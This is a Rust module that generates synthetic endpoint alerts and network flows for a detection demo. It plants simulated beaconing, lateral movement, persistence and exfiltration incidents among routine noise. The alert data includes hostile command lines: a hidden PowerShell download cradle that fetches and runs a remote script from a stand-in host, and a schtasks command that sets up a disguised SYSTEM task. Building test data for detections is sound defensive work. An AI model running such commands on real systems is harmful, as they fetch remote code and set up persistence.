//! Planted attacks and routine noise: the known answers the detections are
//! tested against.
//!
//! Casting happens before day plans are drawn: it picks which devices play
//! which part (by vendor; IT staff only for the dual-agent part, whose
//! baseline does not matter; never two parts), pins them online
//! at the incident time with a stable address, and makes the noisy devices
//! always-on desktops so their recurring alert really recurs every day.
//! Each incident stands out by behaviour only: a rare destination contacted
//! periodically, a fan-out far above the device's own baseline, a title that
//! is routine elsewhere but new here, an upload far larger than the device
//! ever sends. Names and hosts look ordinary.
//!
//! | incident | vendor | shape |
//! |---|---|---|
//! | `edr_then_beacon` | Defender | PowerShell download cradle, 2-5 min later a ~60 s HTTPS beacon to an address no other device contacts, ~5 h |
//! | `lateral_movement` | CrowdStrike | LSASS credential dumping, ~10 min later SMB/RDP/WinRM to 24 internal hosts in ~15 min |
//! | `new_title_on_device` | Defender + CrowdStrike | a title routine on four other devices appears here for the first time, then a CrowdStrike alert of another tactic within the hour |
//! | `exfiltration` | SentinelOne | rclone flagged, 8-25 min later several hundred MB uploaded over four connections to a rare address |

use chrono::DateTime;

use super::alerts::{self, AlertBatch, NewAlert};
use super::fleet::{ip_string, Fleet, Role, Vendor, US_PER_MIN, US_PER_S};
use super::flows::{DayCtx, Flow, FlowBatch, Internet};
use super::rng::Rng;
use super::{DemoSpec, PlantedIncident};
use crate::demo::fleet::stream;

/// Hosting blocks attacker infrastructure is drawn from (VPS providers).
const VPS_BLOCKS: &[[u8; 2]] = &[[45, 134], [45, 155], [185, 174], [194, 36], [91, 219], [5, 252]];

/// The title routine on several Defender devices and new on the
/// `new_title_on_device` one.
pub const ROUTINE_TITLE: &str = "Suspicious Task Scheduler activity";

/// What was planted, with the parameters the day emitters need.
#[derive(Debug, Clone)]
enum Scenario {
    EdrThenBeacon { c2: u32, c2_host: &'static str, stager: u32, stager_host: &'static str },
    LateralMovement { targets: usize },
    NewTitleOnDevice,
    Exfiltration { dst: u32, dst_host: &'static str },
}

#[derive(Debug, Clone)]
struct Planted {
    name: &'static str,
    scenario: Scenario,
    di: usize,
    day: u32,
    /// Time of the triggering alert (ms precision), µs since epoch.
    time_us: i64,
    /// Filled in when the day is emitted (counts, addresses).
    description: String,
}

/// A device that raises the same low-severity alert every day.
#[derive(Debug, Clone)]
pub struct Noisy {
    pub di: usize,
    pub kind: &'static alerts::AlertKind,
    /// Minute of the day the recurring job runs.
    pub minute: u32,
}

/// The cast: incidents and noisy devices.
#[derive(Debug, Clone)]
pub struct Plan {
    planted: Vec<Planted>,
    pub noisy: Vec<Noisy>,
    seed: u64,
}

/// Which day of the lake hosts incident `i` (of a week: Tue, Wed, Thu, Sat).
fn incident_day(base: u32, days: u32) -> u32 {
    if days >= 7 {
        base
    } else {
        ((base as f64 * (days - 1) as f64 / 6.0).round() as u32).min(days - 1)
    }
}

/// Picks devices for every part and pins them; call before [`Fleet::plan`].
pub fn cast(fleet: &mut Fleet, net: &mut Internet, spec: &DemoSpec) -> Plan {
    let mut rng = Rng::derive(spec.seed, &[stream::CAST]);
    let mut used: Vec<usize> = Vec::new();
    let mut planted = Vec::new();
    let days = spec.days;

    if let Some(di) = pick(fleet, &mut rng, &[Vendor::Mde], &mut used) {
        let day = incident_day(1, days);
        let t = at(&mut rng, fleet, day, 600, 690);
        pin(fleet, di, day, t, 120, 340);
        let scenario = Scenario::EdrThenBeacon {
            c2: net.unused_ip(&mut rng, VPS_BLOCKS),
            c2_host: "assets.nimbus-cdn.net",
            stager: net.unused_ip(&mut rng, VPS_BLOCKS),
            stager_host: "download.nimbus-cdn.net",
        };
        planted.push(Planted { name: "edr_then_beacon", scenario, di, day, time_us: t, description: String::new() });
    }
    if let Some(di) = pick(fleet, &mut rng, &[Vendor::CrowdStrike], &mut used) {
        let day = incident_day(2, days);
        let t = at(&mut rng, fleet, day, 840, 900);
        pin(fleet, di, day, t, 90, 120);
        let targets = 24.min(fleet.devices.len() - 1);
        planted.push(Planted {
            name: "lateral_movement",
            scenario: Scenario::LateralMovement { targets },
            di,
            day,
            time_us: t,
            description: String::new(),
        });
    }
    if let Some(di) = pick(fleet, &mut rng, &[Vendor::Mde, Vendor::CrowdStrike], &mut used) {
        let day = incident_day(3, days);
        let t = at(&mut rng, fleet, day, 555, 630);
        pin(fleet, di, day, t, 60, 150);
        planted.push(Planted {
            name: "new_title_on_device",
            scenario: Scenario::NewTitleOnDevice,
            di,
            day,
            time_us: t,
            description: String::new(),
        });
    }
    if let Some(di) = pick(fleet, &mut rng, &[Vendor::SentinelOne], &mut used) {
        let day = incident_day(5, days);
        let t = at(&mut rng, fleet, day, 1140, 1230);
        pin(fleet, di, day, t, 45, 120);
        let dst = net.unused_ip(&mut rng, VPS_BLOCKS);
        planted.push(Planted {
            name: "exfiltration",
            scenario: Scenario::Exfiltration { dst, dst_host: "s3.eu-central-2.wasabisys.com" },
            di,
            day,
            time_us: t,
            description: String::new(),
        });
    }

    // Noise: a bundler re-run daily on two devices per vendor, and a backup
    // agent that re-registers its scheduled task every night on four
    // Defender devices. Both recur on always-on desktops.
    let mut noisy = Vec::new();
    let routine = [
        (Vendor::Mde, "'BundleInstaller' unwanted software was detected", 2, (660, 720)),
        (Vendor::CrowdStrike, "Adware/PUP", 2, (660, 720)),
        (Vendor::SentinelOne, "BundleInstaller_Setup.exe", 2, (660, 720)),
        (Vendor::Mde, ROUTINE_TITLE, 4, (118, 124)),
    ];
    for (vendor, title, n, (lo, hi)) in routine {
        let kind = alerts::kind(vendor, title);
        for _ in 0..n {
            if let Some(di) = pick(fleet, &mut rng, &[vendor], &mut used) {
                let d = &mut fleet.devices[di];
                d.always_on = true;
                d.roams = false;
                noisy.push(Noisy { di, kind, minute: rng.int(lo, hi) as u32 });
            }
        }
    }
    Plan { planted, noisy, seed: spec.seed }
}

impl Plan {
    /// The planted incidents as the public API reports them.
    pub fn incidents(&self, fleet: &Fleet) -> Vec<PlantedIncident> {
        self.planted
            .iter()
            .map(|p| PlantedIncident {
                name: p.name,
                entity: fleet.devices[p.di].name.clone(),
                time: DateTime::from_timestamp_micros(p.time_us).expect("in range"),
                description: p.description.clone(),
            })
            .collect()
    }

    /// Emits the routine noise and the incidents of `ctx.day`.
    pub fn emit_day(&mut self, ctx: &DayCtx<'_>, flows: &mut FlowBatch, alerts: &mut AlertBatch) {
        let fleet = ctx.fleet;
        for (i, n) in self.noisy.iter().enumerate() {
            let mut rng = Rng::derive(self.seed, &[stream::NOISE, ctx.day as u64, i as u64]);
            let t = ctx.day_start_us + n.minute as i64 * US_PER_MIN + rng.int(0, 4 * 60) * US_PER_S + rng.int(0, 999_999);
            alerts.push(fleet, &NewAlert { kind: n.kind, di: n.di, time_us: t, command_line: None, routine: true, fresh: false }, &mut rng);
        }
        for (i, p) in self.planted.iter_mut().enumerate().filter(|(_, p)| p.day == ctx.day) {
            let mut rng = Rng::derive(self.seed, &[stream::INCIDENT, i as u64]);
            p.description = match p.scenario {
                Scenario::EdrThenBeacon { c2, c2_host, stager, stager_host } => {
                    beacon(ctx, flows, alerts, &mut rng, p.di, p.time_us, (c2, c2_host), (stager, stager_host))
                }
                Scenario::LateralMovement { targets } => lateral(ctx, flows, alerts, &mut rng, p.di, p.time_us, targets),
                Scenario::NewTitleOnDevice => new_title(ctx, alerts, &mut rng, p.di, p.time_us, &self.noisy),
                Scenario::Exfiltration { dst, dst_host } => exfil(ctx, flows, alerts, &mut rng, p.di, p.time_us, (dst, dst_host)),
            };
        }
    }
}

/// A workstation with exactly `vendors`, not yet cast; IT staff only when
/// `vendors` has two agents (admins' routine RDP/SMB would blur a fan-out
/// baseline, and dual-agent devices are few).
fn pick(fleet: &Fleet, rng: &mut Rng, vendors: &[Vendor], used: &mut Vec<usize>) -> Option<usize> {
    let admin_ok = vendors.len() > 1;
    let candidates: Vec<usize> = fleet
        .workstations
        .iter()
        .copied()
        .filter(|&d| {
            let dev = &fleet.devices[d];
            dev.role == Role::Workstation && dev.vendors == vendors && (admin_ok || !dev.admin) && !used.contains(&d)
        })
        .collect();
    if candidates.is_empty() {
        tracing::warn!(?vendors, "demo fleet too small: no device left for a planted part, skipping it");
        return None;
    }
    let d = *rng.choice(&candidates);
    used.push(d);
    Some(d)
}

/// A time on `day` between the given minutes, millisecond precision.
fn at(rng: &mut Rng, fleet: &Fleet, day: u32, from_min: i64, to_min: i64) -> i64 {
    let t = fleet.day_start_us(day) + rng.int(from_min, to_min - 1) * US_PER_MIN + rng.int(0, 59_999) * 1000;
    t - t % 1000
}

/// Pins a device in use around an incident and keeps its address stable.
fn pin(fleet: &mut Fleet, di: usize, day: u32, t: i64, before: i64, after: i64) {
    let minute = (t - fleet.day_start_us(day)) / US_PER_MIN;
    let d = &mut fleet.devices[di];
    d.pinned.push((day, (minute - before).max(0) as u32, (minute + after).min(1439) as u32));
    d.roams = false;
}

/// A Windows ephemeral source port.
fn eph(rng: &mut Rng) -> i32 {
    rng.int(49152, 65535) as i32
}

fn hms(us: i64) -> String {
    DateTime::from_timestamp_micros(us).expect("in range").format("%H:%M:%S").to_string()
}

/// A connection from device `di`, filling the fields every incident flow shares.
#[allow(clippy::too_many_arguments)]
fn conn<'a>(
    ctx: &'a DayCtx<'_>,
    sport: i32,
    di: usize,
    t: i64,
    dst: u32,
    dport: i32,
    service: Option<&'static str>,
    host: Option<&'a str>,
    state: &'static str,
    duration: Option<f64>,
    bytes: (i64, i64),
) -> Flow<'a> {
    let dev = &ctx.fleet.devices[di];
    Flow {
        time_us: t,
        src: dev.ip_at(t),
        sport,
        dst,
        dport,
        proto: "tcp",
        service,
        duration,
        bytes_out: Some(bytes.0),
        bytes_in: Some(bytes.1),
        state: Some(state),
        dst_host: host,
        entity: Some(&dev.name),
    }
}

/// 1. A download cradle, then a steady ~60 s beacon for about five hours.
#[allow(clippy::too_many_arguments)]
fn beacon(
    ctx: &DayCtx<'_>,
    flows: &mut FlowBatch,
    alerts: &mut AlertBatch,
    rng: &mut Rng,
    di: usize,
    t: i64,
    (c2, c2_host): (u32, &'static str),
    (stager, stager_host): (u32, &'static str),
) -> String {
    let cmd = format!(
        "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('https://{stager_host}/cdn/update.ps1')\""
    );
    let kind = alerts::kind(Vendor::Mde, "Suspicious PowerShell command line");
    alerts.push(ctx.fleet, &NewAlert { kind, di, time_us: t, command_line: Some(&cmd), routine: false, fresh: true }, rng);
    // The cradle's own download, a second before the alert's first activity.
    let dl = t - rng.int(500, 2500) * 1000;
    let bytes_in = rng.lognormal(12.5, 0.2) as i64;
    flows.push(&conn(ctx, eph(rng), di, dl, stager, 443, Some("ssl"), Some(stager_host), "SF", Some(rng.range(0.4, 1.5)), (rng.int(600, 900), bytes_in)));

    let start = t + rng.int(120, 300) * US_PER_S + rng.int(0, 999_999);
    let n = rng.int(280, 320);
    let mut s = start;
    for _ in 0..n {
        let out = rng.normal(350.0, 6.0).round() as i64;
        // Now and then the operator queues a task: a bigger response.
        let inn = if rng.bool(0.04) { rng.lognormal(8.5, 0.5) as i64 } else { rng.normal(210.0, 5.0).round() as i64 };
        flows.push(&conn(ctx, eph(rng), di, s, c2, 443, Some("ssl"), Some(c2_host), "SF", Some(rng.range(0.15, 0.6)), (out, inn)));
        s += ((60.0 + rng.normal(0.0, 1.5).clamp(-4.0, 4.0)) * 1e6) as i64;
    }
    format!(
        "Defender 'Suspicious PowerShell command line' (T1059.001): a download cradle fetching from {stager_host} ({}). \
         From {} UTC, {n} HTTPS connections every ~60 s (jitter ±4 s, ~350 B out / ~210 B in) to {} ({c2_host}), \
         an address no other device contacts, for ~{:.1} h.",
        ip_string(stager),
        hms(start),
        ip_string(c2),
        (s - start) as f64 / 3600e6
    )
}

/// 2. Credential dumping, then SMB/RDP/WinRM to many internal hosts.
#[allow(clippy::too_many_arguments)]
fn lateral(
    ctx: &DayCtx<'_>,
    flows: &mut FlowBatch,
    alerts: &mut AlertBatch,
    rng: &mut Rng,
    di: usize,
    t: i64,
    n_targets: usize,
) -> String {
    let fleet = ctx.fleet;
    let kind = alerts::kind(Vendor::CrowdStrike, "Credential dumping from LSASS memory");
    alerts.push(fleet, &NewAlert { kind, di, time_us: t, command_line: None, routine: false, fresh: true }, rng);

    // Windows hosts only (the attacker's tools are SMB/RDP/WinRM).
    let mut targets: Vec<usize> =
        (0..fleet.devices.len()).filter(|&d| d != di && fleet.devices[d].os.is_windows()).collect();
    rng.shuffle(&mut targets);
    targets.truncate(n_targets);
    let start = t + rng.int(6, 12) * US_PER_MIN + rng.int(0, 59) * US_PER_S;
    let mut s = start;
    let (mut smb, mut rdp, mut winrm) = (0, 0, 0);
    for &target in &targets {
        let dev = &fleet.devices[target];
        let dst = dev.ip_at(s);
        let server = dev.is_server();
        // SMB to every target: admin shares with stolen credentials.
        if server || rng.bool(0.7) {
            let bytes = (rng.lognormal(8.5, 0.5) as i64, rng.lognormal(8.0, 0.5) as i64);
            flows.push(&conn(ctx, eph(rng), di, s, dst, 445, Some("smb"), None, "SF", Some(rng.range(0.1, 2.0)), bytes));
            if rng.bool(0.25) {
                // A service binary pushed over SMB (PsExec-style).
                let w = s + rng.int(1, 4) * US_PER_S;
                let bytes = (rng.lognormal(13.0, 0.3) as i64, rng.lognormal(8.0, 0.4) as i64);
                flows.push(&conn(ctx, eph(rng), di, w, dst, 445, Some("smb"), None, "SF", Some(rng.range(0.5, 3.0)), bytes));
            }
        } else {
            flows.push(&conn(ctx, eph(rng), di, s, dst, 445, None, None, "REJ", Some(rng.range(0.0002, 0.002)), (0, 0)));
        }
        smb += 1;
        if rng.bool(if server { 0.7 } else { 0.35 }) {
            let r = s + rng.int(2, 15) * US_PER_S;
            let f = if server {
                let bytes = (rng.lognormal(11.0, 0.6) as i64, rng.lognormal(12.5, 0.6) as i64);
                conn(ctx, eph(rng), di, r, dst, 3389, Some("rdp"), None, "SF", Some(rng.range(20.0, 240.0)), bytes)
            } else {
                conn(ctx, eph(rng), di, r, dst, 3389, None, None, if rng.bool(0.5) { "REJ" } else { "S0" }, None, (0, 0))
            };
            flows.push(&f);
            rdp += 1;
        }
        if rng.bool(if server { 0.6 } else { 0.3 }) {
            let w = s + rng.int(2, 20) * US_PER_S;
            let f = if server {
                let bytes = (rng.lognormal(8.5, 0.6) as i64, rng.lognormal(8.8, 0.6) as i64);
                conn(ctx, eph(rng), di, w, dst, 5985, Some("http"), None, "SF", Some(rng.range(0.5, 8.0)), bytes)
            } else {
                conn(ctx, eph(rng), di, w, dst, 5985, None, None, "REJ", Some(rng.range(0.0002, 0.002)), (0, 0))
            };
            flows.push(&f);
            winrm += 1;
        }
        s += rng.int(15, 45) * US_PER_S + rng.int(0, 999_999);
    }
    format!(
        "CrowdStrike 'Credential dumping from LSASS memory' (T1003.001, comsvcs.dll MiniDump). From {} UTC, \
         connections to {} distinct internal hosts within {:.0} min ({smb} SMB/445, {rdp} RDP/3389, {winrm} WinRM/5985); \
         the device's usual SMB/RDP/WinRM peers are the file server and the domain controllers.",
        hms(start),
        targets.len(),
        (s - start) as f64 / 60e6
    )
}

/// 3. A title routine elsewhere, new here, then another vendor and tactic.
fn new_title(
    ctx: &DayCtx<'_>,
    alerts: &mut AlertBatch,
    rng: &mut Rng,
    di: usize,
    t: i64,
    noisy: &[Noisy],
) -> String {
    let fleet = ctx.fleet;
    let cmd = r#"schtasks.exe /create /tn "Microsoft\Windows\UpdateOrchestrator\USOCoreSync" /tr "C:\Users\Public\Libraries\upd.exe" /sc minute /mo 30 /ru SYSTEM /f"#;
    let first = alerts::kind(Vendor::Mde, ROUTINE_TITLE);
    alerts.push(fleet, &NewAlert { kind: first, di, time_us: t, command_line: Some(cmd), routine: false, fresh: true }, rng);
    let second_t = t + rng.int(15, 50) * US_PER_MIN + rng.int(0, 59_999) * 1000;
    let second = alerts::kind(Vendor::CrowdStrike, "Process injection into a system process");
    alerts.push(fleet, &NewAlert { kind: second, di, time_us: second_t, command_line: None, routine: false, fresh: true }, rng);
    let routine_on: Vec<&str> =
        noisy.iter().filter(|n| n.kind.title == ROUTINE_TITLE).map(|n| fleet.devices[n.di].name.as_str()).collect();
    format!(
        "Defender '{ROUTINE_TITLE}' (Persistence, T1053.005) for the first time on this device; it recurs daily \
         around 02:00 on {} (a backup agent). At {} UTC a CrowdStrike 'Process injection into a system process' \
         (Defense Evasion, T1055) follows on the same device: two vendors, two tactics, within the hour.",
        routine_on.join(", "),
        hms(second_t)
    )
}

/// 4. rclone flagged, then a large upload to a rare address.
fn exfil(
    ctx: &DayCtx<'_>,
    flows: &mut FlowBatch,
    alerts: &mut AlertBatch,
    rng: &mut Rng,
    di: usize,
    t: i64,
    (dst, host): (u32, &'static str),
) -> String {
    let kind = alerts::kind(Vendor::SentinelOne, "rclone.exe");
    alerts.push(ctx.fleet, &NewAlert { kind, di, time_us: t, command_line: None, routine: false, fresh: true }, rng);
    let start = t + rng.int(8, 25) * US_PER_MIN + rng.int(0, 59) * US_PER_S;
    // Listing and auth calls first, then four parallel transfers.
    for i in 0..3 {
        let c = start - (20 - 6 * i) * US_PER_S;
        let bytes = (rng.lognormal(7.6, 0.3) as i64, rng.lognormal(8.2, 0.3) as i64);
        flows.push(&conn(ctx, eph(rng), di, c, dst, 443, Some("ssl"), Some(host), "SF", Some(rng.range(0.3, 1.2)), bytes));
    }
    let mut total = 0i64;
    for i in 0..4 {
        let out = rng.lognormal(19.2, 0.15) as i64;
        total += out;
        let secs = out as f64 / rng.range(1.5e6, 4.0e6);
        let c = start + i * rng.int(200, 900) * 1000;
        flows.push(&conn(ctx, eph(rng), di, c, dst, 443, Some("ssl"), Some(host), "SF", Some(secs), (out, rng.lognormal(14.5, 0.3) as i64)));
    }
    format!(
        "SentinelOne threat 'rclone.exe' (Hacktool, suspicious; Exfiltration T1567.002). From {} UTC, four parallel \
         HTTPS uploads totalling {:.0} MB bytes_out to {} ({host}), an address no other device contacts; the device's \
         own uploads rarely exceed a few tens of MB per connection.",
        hms(start),
        total as f64 / 1e6,
        ip_string(dst)
    )
}
